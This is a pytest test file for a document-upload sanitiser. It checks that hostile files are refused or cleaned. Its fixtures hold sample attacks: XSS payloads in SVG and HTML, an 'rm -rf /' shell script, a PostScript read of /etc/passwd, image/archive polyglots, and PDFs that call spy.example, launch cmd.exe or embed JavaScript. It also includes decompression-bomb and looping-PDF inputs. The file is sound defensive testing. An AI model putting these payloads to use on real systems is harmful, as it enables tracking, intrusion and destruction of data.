"""Files made to do harm: each kind is refused or made harmless, with a sentence a person understands."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, PngImagePlugin

from xaso.kernel.documents.intake import (
    DOCX,
    HEIC,
    JPEG,
    PDF,
    XLSX,
    BadFile,
    IntakeRule,
    check_upload,
    heic_supported,
    kind_of,
)  # fmt: skip
from xaso.kernel.documents.tests.test_intake import pdf, picture

OFFICE = IntakeRule(kinds=(PDF, DOCX, XLSX))


def word(parts: dict[str, bytes | str] | None = None, how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as file:
        file.writestr("[Content_Types].xml", "<Types/>")
        for name, content in {"word/document.xml": "<w/>", **(parts or {})}.items():
            file.writestr(name, content)
    return out.getvalue()


def refused(content: bytes, words: str, rule: IntakeRule | None = OFFICE) -> None:
    with pytest.raises(BadFile, match=words) as caught:
        check_upload(content, "a.docx", rule)
    assert caught.value.message.endswith(".")


def flat(content: bytes) -> bytes:
    """A PDF with everything in the clear."""
    with pikepdf.open(io.BytesIO(content)) as document:
        out = io.BytesIO()
        document.save(out, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def made(change) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(595, 842))
    change(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def signed(change=lambda document: None) -> bytes:
    def both(document: pikepdf.Pdf) -> None:
        change(document)
        document.Root.Sig = document.make_indirect(
            Dictionary(Type=Name.Sig, ByteRange=[0, 1, 2, 3], Contents=String("x"))
        )

    return made(both)


# ---- kinds that are not taken at all --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"GIF89a/*" + b"\0" * 50 + b"*/=1;alert(1)",
        b"BM" + b"\0" * 60,
        b"II*\0" + b"\0" * 60,
        b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        b"MZ" + b"\0" * 100,
        b"\x7fELF" + b"\0" * 100,
        b"#!/bin/sh\nrm -rf /",
        b"\x1f\x8b\x08" + b"\0" * 100,
        b"Rar!\x1a\x07\x00" + b"\0" * 100,
    ],
    ids=lambda one: repr(one[:8]),
)
def test_other_kinds_are_refused_whatever_they_are_called(content: bytes):
    for name in ("anh.jpg", "giay.pdf", "don.docx"):
        with pytest.raises(BadFile, match="Không nhận loại tệp này"):
            check_upload(content, name, OFFICE)


# ---- polyglots ------------------------------------------------------------------------------------------------


def test_what_hides_in_a_picture_goes_with_the_old_encoding():
    script, program = b"<script>alert(document.domain)</script>", word({"evil.txt": "x"})
    for content in (picture("JPEG") + script + program, picture("PNG") + script + program):
        kept = check_upload(content, "a.jpg")
        assert script not in kept.content and b"PK\x03\x04" not in kept.content
        assert not zipfile.is_zipfile(io.BytesIO(kept.content)) and kept.redrawn
    comment = picture("JPEG", comment=script)
    assert script in comment and script not in check_upload(comment, "a.jpg").content
    said = PngImagePlugin.PngInfo()
    said.add_text("XML:com.adobe.xmp", script.decode())
    assert script not in check_upload(picture("PNG", pnginfo=said), "a.png").content


def test_a_pdf_behind_another_beginning_is_written_anew():
    kept = check_upload(b"GIF89a<script>alert(1)</script>\n" + pdf(), "a.pdf")
    assert kept.content.startswith(b"%PDF-") and b"<script>" not in kept.content


def test_an_archive_behind_a_pdf_does_not_stay():
    both = pdf() + word({"a.txt": "x"})
    assert kind_of(both) == PDF
    kept = check_upload(both, "a.pdf")
    assert not zipfile.is_zipfile(io.BytesIO(kept.content))
    with pytest.raises(BadFile, match="vừa là PDF vừa là tệp nén"):
        check_upload(signed() + word({"a.txt": "x"}), "a.pdf")


# ---- pictures -------------------------------------------------------------------------------------------------


def test_the_limit_of_pixels_is_a_setting(settings):
    settings.XASO_UPLOAD_MEGAPIXELS = "1"
    with pytest.raises(BadFile, match=r"quá nhiều điểm ảnh \(nhận đến 1 triệu\)"):
        check_upload(picture(size=(1200, 1000)), "a.jpg")
    assert check_upload(picture(size=(900, 900)), "a.jpg")


@pytest.mark.skipif(not heic_supported(), reason="pillow-heif is not installed")
def test_photos_of_iphones_lose_the_place_and_stand_upright():
    exif = Image.Exif()
    exif.get_ifd(0x8825)[2] = (23.0, 15.0, 0.0)
    exif[0x010F] = "Apple"
    content = picture("HEIF", size=(320, 200), exif=exif)
    assert b"Apple" in content and kind_of(content) == HEIC
    kept = check_upload(content, "IMG_1.HEIC")
    image = Image.open(io.BytesIO(kept.content))
    assert kept.media_type == JPEG and kept.name == "IMG_1.jpg"
    assert b"Apple" not in kept.content and not image.getexif() and image.size == (320, 200)


def test_every_turn_of_a_photo_is_kept_upright():
    # A picture that is dark above and light below, told to be turned in each of the eight ways.
    upright = Image.new("L", (40, 60), 255)
    upright.paste(0, (0, 0, 40, 30))
    back = {
        1: None,
        3: Image.Transpose.ROTATE_180,
        6: Image.Transpose.ROTATE_90,
        8: Image.Transpose.ROTATE_270,
    }
    for mark, turn in back.items():
        exif = Image.Exif()
        exif[0x0112] = mark
        out = io.BytesIO()
        (upright.transpose(turn) if turn is not None else upright).save(out, "JPEG", exif=exif, quality=95)
        image = Image.open(io.BytesIO(check_upload(out.getvalue(), "a.jpg").content)).convert("L")
        assert image.size == (40, 60), mark
        assert image.getpixel((20, 10)) < 60 and image.getpixel((20, 50)) > 200, mark


def test_a_png_that_unpacks_without_end_is_cut():
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    text = chunk(b"zTXt", b"note\0\0" + zlib.compress(b"A" * (80 << 20)))
    whole = picture("PNG", size=(30, 30))
    with pytest.raises(BadFile, match="bị hỏng"):
        check_upload(whole[:33] + text + whole[33:], "a.png")


# ---- PDF ------------------------------------------------------------------------------------------------------


def test_what_opens_by_itself_or_leads_to_odd_places_goes():
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = Dictionary(S=Name.URI, URI="https://spy.example/opened")
        links = [
            Dictionary(
                Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=Dictionary(S=Name.URI, URI=to)
            )
            for to in (
                "javascript:alert(1)",
                "file:///etc/passwd",
                "\\\\spy\\share",
                "https://dichvucong.gov.vn",
            )
        ]
        document.pages[0].Annots = Array(links)
        remote = Dictionary(S=Name.GoToR, F="\\\\spy\\share\\a.pdf", D=[0, Name.Fit])
        document.Root.Outlines = document.make_indirect(Dictionary(Count=1))
        document.Root.Outlines.First = document.make_indirect(Dictionary(Title="x", A=remote))

    kept = check_upload(made(change), "a.pdf")
    text = flat(kept.content)
    assert kept.notes and b"https://dichvucong.gov.vn" in text
    for trace in (b"spy", b"javascript", b"file:///", b"/OpenAction", b"/GoToR"):
        assert trace not in text, trace


def test_streams_that_lie_elsewhere_are_not_fetched():
    def change(document: pikepdf.Pdf) -> None:
        outside = Dictionary(Type=Name.Filespec, FS=Name.URL, F="https://spy.example/a.bin")
        stream = document.make_stream(b"", F=outside)
        form = document.make_stream(
            b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9],
            Ref=Dictionary(F=Dictionary(F="https://spy.example/b.pdf"), Page=0),
        )  # fmt: skip
        document.pages[0].Resources = Dictionary(XObject=Dictionary(A=stream, B=form))

    kept = check_upload(made(change), "a.pdf")
    assert kept.notes and b"spy" not in flat(kept.content)


def test_a_form_of_the_old_kind_loses_its_program_and_keeps_its_fields():
    def change(document: pikepdf.Pdf) -> None:
        fill = Dictionary(
            FT=Name.Tx, T="ten", V="Lò Thị Mẩy", Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 9, 9],
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS="app.launchURL('https://spy.example')")),
        )  # fmt: skip
        field = document.make_indirect(fill)
        document.pages[0].Annots = Array([field])
        document.Root.AcroForm = Dictionary(
            Fields=[field], XFA=Array([String("xdp"), document.make_stream(b"<xdp/>")])
        )

    kept = check_upload(made(change), "a.pdf")
    with pikepdf.open(io.BytesIO(kept.content)) as document:
        assert "/XFA" not in document.Root.AcroForm
        assert str(document.Root.AcroForm.Fields[0].V) == "Lò Thị Mẩy"
    assert b"spy" not in flat(kept.content)


@pytest.mark.parametrize("what", ["script", "launch", "attachment"])
def test_a_signed_pdf_cannot_be_mended_so_it_is_refused_when_it_acts(what: str):
    def change(document: pikepdf.Pdf) -> None:
        if what == "script":
            document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
        elif what == "launch":
            document.Root.AA = Dictionary(WC=Dictionary(S=Name.Launch, F="cmd.exe"))
        else:
            document.attachments["virus.exe"] = b"MZ"

    with pytest.raises(BadFile, match="chữ ký số nhưng chứa phần tự chạy"):
        check_upload(signed(change), "a.pdf")
    plain = signed()
    kept = check_upload(plain, "a.pdf")
    assert kept.signed and kept.content == plain


def test_the_limit_of_pages_and_of_bytes_is_a_setting(settings):
    settings.XASO_UPLOAD_PAGES, settings.XASO_UPLOAD_MB = "2", "1"
    with pytest.raises(BadFile, match="3 trang, nhiều hơn 2 trang"):
        check_upload(pdf(3), "a.pdf", IntakeRule(max_pages=500))
    with pytest.raises(BadFile, match="quá mức 1,0 MB"):
        check_upload(b"%PDF-" + b"x" * (1 << 20), "a.pdf", IntakeRule(max_bytes=9 << 20))


def test_a_pdf_of_endless_depth_or_loops_does_not_hang():
    loop = (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>"
    )
    deep = b"%PDF-1.4\n1 0 obj" + b"[" * 20_000 + b"]" * 20_000 + b"endobj\ntrailer<</Root 1 0 R>>"
    for content in (loop, deep):
        with pytest.raises(BadFile):
            check_upload(content, "a.pdf")
